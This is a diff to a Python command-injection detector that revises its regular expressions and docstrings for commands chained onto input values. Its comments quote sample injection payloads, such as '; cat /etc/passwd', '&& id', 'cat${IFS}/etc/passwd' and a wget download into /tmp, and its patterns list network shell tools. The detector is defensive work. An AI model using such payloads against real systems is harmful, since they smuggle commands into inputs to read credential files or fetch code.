@@ -70,9 +70,11 @@ chained onto a value (``; cat /etc/passwd``, ``&& id``, ``| whoami``, ``%0a whoa
 ``&`` after a blank, after a value, at most one word from the start of its line or a closing quote, or ``%0a``, then
 ``cat``, ``id``, ``whoami``, ``uname``, ``ls``, ``ping``, netcat, a shell, ``powershell``, ``cmd``, ``curl`` or
 ``wget`` (also by its path, ``/bin/cat``), then the line's end, ``;``, ``<``, ``%0a``, a comment, an option, a path
-or a URL (after blanks or ``${IFS}``); or ``id``, ``whoami`` or ``uname`` with options, a read of ``/etc/passwd`` or a
-download to ``/tmp`` after ``;``, ``&&``, ``||`` or ``&`` whatever precedes it (``8.8.8.8 -c 1; uname -a``); or
-on the line after a value (``8.8.8.8 -c 1\\nwhoami``); not "cats & dogs; cat food", a Markdown row ``| id | name |``
+or a URL (after blanks or ``${IFS}``); or after ``;``, ``&&``, ``||`` or ``&`` and a value that does not end in a word
+of letters, ``id``, ``whoami`` or ``uname`` with options (``8.8.8.8 -c 1; uname -a``; not "Steps: log in; id"; by
+its path, ``/usr/bin/id``, after anything), or after anything, a command line that reads ``/etc/passwd`` or
+downloads to ``/tmp`` and ends the line (not "...; cat /etc/passwd lists the deploy user"); or on the line after a
+value (``8.8.8.8 -c 1\\nwhoami``); not "cats & dogs; cat food", a Markdown row ``| id | name |``
 nor a command line or sentence before it: ``cd build && ls -la``); Perl's ``@{[ ... ]}`` interpolation; a call that
 runs a command or code with a string, a PHP variable or code argument (``system("...")``, ``system($_GET['c'])``, ``exec(...)``,
 ``eval("...")``, ``popen``, ``passthru``, ``shell_exec``, Node's ``execSync("...")``, ``Kernel.exec``, Perl's
@@ -206,9 +208,13 @@ _RUNNER = r"(?:sudo\s+(?:-\w+\s+(?:\w+\s+)?)*)?(?:(?:/usr)?/bin/env\s+|env\s+)?"
 #: A command an attacker chains onto a value, bare or by its path (``id``, ``/bin/cat``).
 _CHAINED = (r"(?:/usr)?(?:/s?bin/)?(?:cat|id|whoami|uname|ls|ping|nc|ncat|netcat|bash|sh|zsh|powershell|pwsh|cmd"
             r"|curl|wget)")
-#: A chained command's arguments to the end of its command line: options, paths, URLs and numbers only
-#: (``-la /var/www``, ``-I https://e.example/``; a line that goes on in words, "ls -la /var/www shows ...", is prose).
-_ARGUMENTS = r"(?:[ \t]+(?:-\S+|/\S*|~\S*|[a-z]+://\S*|\d\S*))+[ \t\r]*(?:$|;|<)"
+#: A chained command's arguments to the end of its command line: options, paths, URLs and numbers only, after blanks,
+#: ``<`` or the shell's ``$IFS`` (``-la /var/www``, ``-I https://e.example/``, ``</etc/passwd``; a line that goes on in
+#: words, "ls -la /var/www shows ...", is prose).
+_ARGUMENTS = (r"(?:(?:[ \t]+|[ \t]*<[ \t]*|\$\{IFS\}|\$IFS\b)(?:-\S+|/\S*|~\S*|[a-z]+://\S*|\d\S*))+"
+              r"[ \t\r]*(?:$|;|<)")
+#: id, whoami or uname with options, then the line's end, a separator, a redirection or a comment.
+_IDENTITY = r"(?:id|whoami|uname)(?:[ \t]+-\w+)*[ \t\r]*(?:$|[;#<>|&]|\d[<>])"
 #: (marks, pattern): each pattern matches only text that holds one of its marks (lower case), so a text is searched
 #: only with the patterns whose mark it holds (a Python regex without a literal prefix costs about 30 us per KiB).
 _CODE_EXEC = tuple((marks, re.compile(pattern, re.IGNORECASE | re.MULTILINE)) for marks, pattern in (
@@ -246,14 +252,17 @@ _CODE_EXEC = tuple((marks, re.compile(pattern, re.IGNORECASE | re.MULTILINE)) fo
                               rf"\s*{_CHAINED}(?:\s*(?:$|;|<|%0a)|[|&]+[ \t\r]*$"
                               r"|(?:\s+|\$\{IFS\}|\$IFS\b)(?:#|[-/~$]|[a-z]+://))")),
     # a command chained onto anything (8.8.8.8 -c 1; id, Bob Smith; cat /etc/passwd): after ;, &&, || or & after a
-    # blank, id, whoami or uname with options and then the line's end, a separator, a redirection or a comment
-    # (; uname -a, && whoami>/tmp/x), a read of /etc/passwd or /etc/shadow (cat</etc/passwd, cat${IFS}/etc/passwd),
-    # or a download written to a temporary folder (; wget http://e/x -O /tmp/x); not a transcript's "uname -a; cat
-    # /etc/os-release", nor after a lone | (a table row's "first name | id")
-    ((";", "&", "||"), (rf"(?:;|&&|\|\||(?<!\S)&)[ \t]*(?:(?:/usr)?(?:/s?bin/)?(?:id|whoami|uname)(?:[ \t]+-\w+)*"
-                        r"[ \t\r]*(?:$|[;#<>|&]|\d[<>])"
-                        rf"|{_CHAINED}(?:[ \t<]|\$\{{?IFS\b)[^\n;|&]*?/etc/(?:passwd|shadow)\b"
-                        r"|(?:/usr)?(?:/s?bin/)?(?:curl|wget)[ \t]+[^\n;|&]*?-[oO][ \t]*/(?:tmp|var/tmp|dev/shm)/)")),
+    # blank, id, whoami or uname with options after a value that does not end in a word of letters (8.8.8.8 -c 1;
+    # uname -a, 1&&whoami>/tmp/x; not "Steps: log in; id", "It prints the name & id") or by its path (Bob Smith &&
+    # /usr/bin/id), or a command line that reads /etc/passwd or /etc/shadow (cat</etc/passwd, cat${IFS}/etc/passwd)
+    # or downloads into a temporary folder (; wget http://e/x -O /tmp/x) and ends there (not "...; cat /etc/passwd
+    # lists the deploy user"); not a transcript's "uname -a; cat /etc/os-release", nor after a lone | (a table
+    # row's "first name | id")
+    ((";", "&", "||"), (rf"(?:^|[^\w \t]|[\d_])[ \t]*(?:;|&&|\|\||(?<!\S)&)[ \t]*(?:/usr)?(?:/s?bin/)?{_IDENTITY}"
+                        rf"|(?:;|&&|\|\||(?<!\S)&)[ \t]*(?:(?:/usr)?/s?bin/{_IDENTITY}"
+                        rf"|{_CHAINED}(?=[^\n;|&]*?/etc/(?:passwd|shadow)\b){_ARGUMENTS}"
+                        rf"|(?:/usr)?(?:/s?bin/)?(?:curl|wget)(?=[^\n;|&]*?-[oO][ \t]*/(?:tmp|var/tmp|dev/shm)/)"
+                        rf"{_ARGUMENTS})")),
     # a command on the line after a value (x\nwhoami, 127.0.0.1\ncat /etc/passwd: a URL-decoded %0a): a line of one
     # word (not a code fence or a label: "```bash", "Steps:") or of a word and options with at most one argument
     # each (8.8.8.8 -c 1), blank lines after it, then whoami or uname alone, or one of the commands
